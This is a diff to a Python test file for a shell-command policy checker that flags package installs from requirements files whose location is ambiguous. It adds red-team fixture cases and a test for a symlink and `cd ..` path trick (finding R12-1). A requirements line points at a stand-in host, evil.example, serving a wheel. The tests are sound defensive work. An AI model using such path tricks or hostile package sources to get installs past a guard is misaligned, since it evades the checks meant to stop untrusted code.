@@ -40,8 +40,9 @@ def test_generated_shell_line(case):
 
 
 def test_the_fixture_is_there_and_refuses_and_allows():
+    # 300 generated lines, 150 of red team 12's fragments, 13 with command substitutions
     outcomes = {tuple(c["rules"]) for c in CASES}
-    assert len(CASES) == 300 and () in outcomes and ("install-unreadable",) in outcomes
+    assert len(CASES) == 463 and () in outcomes and ("install-unreadable",) in outcomes
 
 
 URL_LINE = "black @ https://evil.example/black-1.0-py3-none-any.whl\n"
@@ -53,16 +54,25 @@ def rules_for_in(line, cwd):
     return sorted({f.rule_id for r in requests for f in decide.decide(r, {}, DATA)})
 
 
-def test_cd_dotdot_after_a_link_is_read_where_bash_lands(tmp_path):
+def test_cd_dotdot_after_a_link_is_left_unknown(tmp_path):
+    """bash's cd is logical (`..` undoes the link), but falls back to the physical path when
+    the logical folder is not there (red team 12 R12-1): a `..` after a folder name is not
+    followed, whichever of the two the shell takes."""
     (tmp_path / "elsewhere" / "sub").mkdir(parents=True)
+    (tmp_path / "elsewhere" / "x").mkdir()
     (tmp_path / "elsewhere" / "requirements.txt").write_text(URL_LINE)
     (tmp_path / "requirements.txt").write_text("black\n")
     (tmp_path / "lnk").symlink_to(tmp_path / "elsewhere" / "sub")
-    where = subprocess.run(
-        ["bash", "-c", "cd lnk; cd ..; pwd"], cwd=tmp_path, capture_output=True, text=True
-    ).stdout.strip()
-    assert where == str(tmp_path)  # bash's cd is logical: `..` undoes the link
-    assert rules_for_in("cd lnk; cd ..; uv pip install -r requirements.txt", tmp_path) == []
-    assert rules_for_in("cd -P lnk; cd ..; uv pip install -r requirements.txt", tmp_path) == [
-        "install-unreadable"
-    ]
+
+    def where(line):
+        run = subprocess.run(["bash", "-c", line], cwd=tmp_path, capture_output=True, text=True)
+        return run.stdout.strip()
+
+    assert where("cd lnk && cd .. && pwd") == str(tmp_path)  # logical
+    assert where("cd lnk/../x && pwd") == str(tmp_path / "elsewhere" / "x")  # physical
+    for line in (
+        "cd lnk && cd .. && uv pip install -r requirements.txt",
+        "cd lnk/../x && uv pip install -r ../requirements.txt",
+        "cd -P lnk && cd .. && uv pip install -r requirements.txt",
+    ):
+        assert rules_for_in(line, tmp_path) == ["install-unreadable"], line
